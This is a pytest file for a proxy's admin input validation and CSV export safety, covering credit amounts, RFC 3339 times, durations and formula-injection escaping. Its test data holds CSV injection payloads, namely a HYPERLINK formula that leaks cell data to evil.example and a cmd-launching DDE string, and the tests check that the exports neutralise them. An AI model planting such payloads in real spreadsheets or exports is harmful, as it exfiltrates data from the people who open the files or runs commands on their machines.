"""Admin input validation (proxy/admin/input.py, the one place inputs are parsed), CSV formula
injection in every CSV export, RFC 3339 key times and the export columns."""

from __future__ import annotations

import csv
import io
import re
import time
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from proxy.admin import input as ain
from proxy.admin.input import FieldError
from proxy.reports.exports import COLUMNS, csv_cell
from tests.conftest import Proxy

CREDITS_RULE = ("credits: must be a decimal string with at most 6 decimal places, from 0.000001"
                " to 1000000000000 (e.g. \"1000\" or \"0.5\")")
RFC3339 = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z")
TIME_RULE = ("must be an RFC 3339 time, a date (YYYY-MM-DD) or unix seconds, from"
             " 1970-01-01T00:00:00Z to 9999-12-31T23:59:59Z")


# ---- the parsers ------------------------------------------------------------------------------

@pytest.mark.parametrize(("raw", "micro"), [
    ("1", 1_000_000), ("0.000001", 1), ("0.5", 500_000), ("1000000000000", 10**18),
    ("999999999999.999999", 10**18 - 1), ("007", 7_000_000), (5, 5_000_000), ("1000", 10**9),
])
def test_credits_accepted_exactly(raw: object, micro: int) -> None:
    assert ain.credits_micro(raw) == micro


@pytest.mark.parametrize("raw", [
    "1e13", "9223372036855", "1_000", "0", "0.0000001", "-1", "+1", " 1", "1 ", "1.", ".5", "",
    "NaN", "inf", "1000000000000.000001", "1000000000001", "0x10", "١٢", "1,000", 1.5, True,
    None, 0, -3, 10**13, [], {},
])
def test_credits_refused_with_the_field_and_the_range(raw: object) -> None:
    with pytest.raises(FieldError) as exc:
        ain.credits_micro(raw)
    assert str(exc.value) == CREDITS_RULE
    assert exc.value.field == "credits"


def _ts(text: str) -> int:
    return int(datetime.fromisoformat(text).replace(tzinfo=UTC).timestamp())


@pytest.mark.parametrize(("raw", "ts"), [
    ("2026-11-01T00:00:00Z", _ts("2026-11-01T00:00:00")),
    ("2026-11-01", _ts("2026-11-01T00:00:00")),
    ("2026-11-01T02:00:00+02:00", _ts("2026-11-01T00:00:00")),
    ("2026-11-01T00:00:00.999Z", _ts("2026-11-01T00:00:00")),
    ("0", 0), ("253402300799", 253402300799), (1_700_000_000, 1_700_000_000),
    (1_700_000_000.0, 1_700_000_000), (" 1700000000 ", 1_700_000_000),
])
def test_times_accepted(raw: object, ts: int) -> None:
    assert ain.timestamp(raw, "expires_at") == ts


@pytest.mark.parametrize("raw", [
    "99999999999999999999", "253402300800", "-1", "1.5", "2026-13-01", "2026-11-31", "soon",
    "T" * 50, "", "1969-12-31T23:59:59Z", "0001-01-01T00:00:00+01:00", True, 1.5, -1,
    float("inf"), float("nan"), None, [],
])
def test_times_refused_with_the_field_and_the_range(raw: object) -> None:
    with pytest.raises(FieldError) as exc:
        ain.timestamp(raw, "to")
    assert str(exc.value) == f"to: {TIME_RULE}"


def test_time_range_defaults_and_order() -> None:
    assert ain.time_range(None, None, 10.0, 20.0) == (10.0, 20.0)
    assert ain.time_range("100", None, 10.0, 200.0) == (100.0, 200.0)
    with pytest.raises(FieldError) as exc:
        ain.time_range("100", "99", 0.0, 0.0)
    assert (exc.value.field, str(exc.value)) == ("to", "to: must not be before 'from'")


@pytest.mark.parametrize(("raw", "seconds"), [
    ("90s", 90.0), ("30m", 1800.0), ("2h", 7200.0), ("1d", 86400.0), ("30d", 2592000.0),
    ("1.5", 1.5), ("0", 0.0), (7200, 7200.0), (" 2H ", 7200.0),
])
def test_durations(raw: object, seconds: float) -> None:
    assert ain.duration(raw, "grace") == seconds


@pytest.mark.parametrize("raw", ["31d", "2592001", "-1", "inf", "nan", "1e3", "h", "soon", True,
                                 1.5, None])
def test_durations_refused(raw: object) -> None:
    with pytest.raises(FieldError, match=r"^grace: must be a duration .* from 0 to 2592000"
                                         r" seconds$"):
        ain.duration(raw, "grace")


def test_integers_flags_choices() -> None:
    assert ain.integer("42", "limit", 1, 1000) == 42 and ain.integer(1000, "limit", 1, 1000) == 1000
    assert ain.integer(5.0, "limit", 1, 1000) == 5              # JSON 5.0 is an integer
    with pytest.raises(FieldError, match=r"^priority: must be an integer from 0 to 100$"):
        ain.integer("5", "priority", 0, 100, strings=False)      # JSON bodies: numbers only
    for bad in ("0", "1001", "-1", "1.0", "", "1_0", True, 2.5, 1e4, float("inf"), "9" * 30,
                None):
        with pytest.raises(FieldError, match=r"^limit: must be an integer from 1 to 1000$"):
            ain.integer(bad, "limit", 1, 1000)
    assert [ain.flag(v, "all") for v in (True, False, "true", "YES", "1", "0", "no", "False")] == \
        [True, False, True, True, True, False, False, False]
    for bad in ("maybe", "", None, 1, "2"):
        with pytest.raises(FieldError, match=r"^all: must be true or false$"):
            ain.flag(bad, "all")
    with pytest.raises(FieldError, match=r"^format: must be one of csv, json$"):
        ain.choice("xml", "format", ("csv", "json"))


@given(st.one_of(st.text(max_size=40), st.integers(), st.floats(), st.booleans(), st.none()))
def test_parsers_never_fail_otherwise(raw: Any) -> None:
    """Any input: a value in range, or a FieldError. Never another exception (a 500)."""
    for parse, lo, hi in ((ain.credits_micro, 1, 10**18), (lambda v: ain.timestamp(v, "t"), 0,
                          ain.MAX_TIME), (lambda v: ain.duration(v, "g"), 0, ain.MAX_GRACE),
                          (lambda v: ain.integer(v, "i", 0, 100), 0, 100)):
        try:
            value = parse(raw)
        except FieldError:
            continue
        assert lo <= value <= hi


# ---- through the admin API --------------------------------------------------------------------

async def _raw(p: Proxy, method: str, path: str, json: Any = None) -> tuple[int, Any]:
    async with p.session.request(method, p.admin_url + path, json=json,
                                 headers=p.admin_headers) as r:
        return r.status, await r.json()


async def test_admin_refuses_out_of_range_inputs_with_400(proxy: Proxy) -> None:
    await proxy.admin("POST", "/admin/customers", {"id": "acme"}, expect=201)
    for credits in ("1e13", "9223372036855", "1_000", "0", 1.5):
        status, body = await _raw(proxy, "POST", "/admin/customers/acme/grants",
                                  {"credits": credits})
        assert (status, body) == (400, {"error": {"type": "invalid_request",
                                                  "message": CREDITS_RULE, "param": "credits"}})
    status, body = await _raw(proxy, "POST", "/admin/customers/acme/grants",
                              {"credits": "1000000000000", "priority": 101})
    assert (status, body["error"]["param"]) == (400, "priority")
    status, body = await _raw(proxy, "GET", "/admin/customers/acme/usage?to=99999999999999999999")
    assert (status, body) == (400, {"error": {"type": "invalid_request",
                                              "message": f"to: {TIME_RULE}", "param": "to"}})
    status, body = await _raw(proxy, "POST", "/admin/dead-letters/99999999999999999999/replay")
    assert (status, body["error"]["param"]) == (400, "id")
    status, body = await _raw(proxy, "POST", "/admin/customers",
                              {"id": "acme", "billing_anchor": "10000-01-01T00:00:00Z"})
    assert (status, body["error"]["param"]) == (400, "billing_anchor")
    # nothing was granted by any of those
    assert (await proxy.admin("GET", "/admin/customers/acme/grants"))["grants"] == []
    granted = await proxy.admin("POST", "/admin/customers/acme/grants",
                                {"credits": "1000000000000"}, expect=201)
    assert granted["credits"] == "1000000000000"


async def test_key_times_are_rfc3339(proxy: Proxy) -> None:
    await proxy.customer_with_key("acme")
    created = await proxy.admin("POST", "/admin/customers/acme/keys", {"name": "b"}, expect=201)
    await proxy.admin("DELETE", f"/admin/keys/{created['key_id']}", expect=200)
    keys = await proxy.admin("GET", "/admin/customers/acme/keys", expect=200)
    assert len(keys) == 2
    now = time.time()
    for k in keys:
        assert RFC3339.fullmatch(k["created_at"])
        assert abs(_ts(k["created_at"][:-1]) - now) < 60
    assert keys[0]["revoked_at"] is None
    revoked = next(k for k in keys if k["key_id"] == created["key_id"])
    assert RFC3339.fullmatch(revoked["revoked_at"])


# ---- CSV formula injection ----------------------------------------------------------------------

@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
     '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1", "'+1"), ("-1", "'-1"), ("\tTAB", "'\tTAB"), ("\r=1", "\"'\r=1\""),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), ("with,comma", '"with,comma"'),
])
def test_csv_cell_neutralizes_formulas(value: str, cell: str) -> None:
    assert csv_cell(value) == cell


HOSTILE = ['=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "+1", "-1", "=1+2;ok"]


async def test_every_csv_export_neutralizes_client_values(proxy: Proxy) -> None:
    key = await proxy.customer_with_key("acme")
    for rid in HOSTILE:
        async with proxy.session.get(proxy.url + "/v1/items",
                                     headers={"Authorization": f"Bearer {key}",
                                              "X-Request-Id": rid}) as r:
            assert r.status == 200 and r.headers["X-Request-Id"] == rid
    exports = [(proxy.admin_url + "/admin/customers/acme/usage.csv", proxy.admin_headers),
               (proxy.admin_url + "/admin/customers/acme/events?format=csv", proxy.admin_headers),
               (proxy.url + "/_meter/events.csv", {"Authorization": f"Bearer {key}"})]
    for url, headers in exports:
        async with proxy.session.get(url, headers=headers) as r:
            assert r.status == 200 and r.content_type == "text/csv"
            rows = list(csv.reader(io.StringIO(await r.text())))
        assert tuple(rows[0]) == COLUMNS
        assert [row[1] for row in rows[1:]] == ["'" + rid for rid in HOSTILE]
    async with proxy.session.get(proxy.admin_url + "/admin/customers/acme/events",
                                 headers=proxy.admin_headers) as r:
        exported = await r.json()
    assert [e["request_id"] for e in exported["requests"]] == HOSTILE     # JSON: raw values


def test_export_columns() -> None:
    assert COLUMNS == ("time", "request_id", "customer_id", "key_id", "rule", "rules_version",
                       "status", "meter", "quantity", "credits", "billable", "flags", "method",
                       "path")
